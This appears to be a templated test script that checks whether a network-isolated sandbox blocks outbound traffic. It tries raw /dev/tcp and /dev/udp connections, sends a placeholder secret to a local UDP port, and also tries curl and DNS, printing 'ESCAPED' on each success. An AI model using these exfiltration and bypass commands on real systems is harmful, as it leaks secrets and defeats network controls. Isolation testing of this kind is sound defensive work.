# attack: Connects with the shell's own device files and with whatever tool is there.
# needs: network=none
(exec 3<>/dev/tcp/127.0.0.1/@PORT@) 2>/dev/null && echo "ESCAPED reached the host"
(echo "@SECRET@" >/dev/udp/127.0.0.1/@UDP_PORT@) 2>/dev/null
(exec 3<>/dev/tcp/192.0.2.1/443) 2>/dev/null && echo "ESCAPED reached the internet"
command -v curl >/dev/null && curl -s -m 1 "http://127.0.0.1:@PORT@/" && echo "ESCAPED with curl"
getent hosts example.com && echo "ESCAPED resolved a name"
echo tried
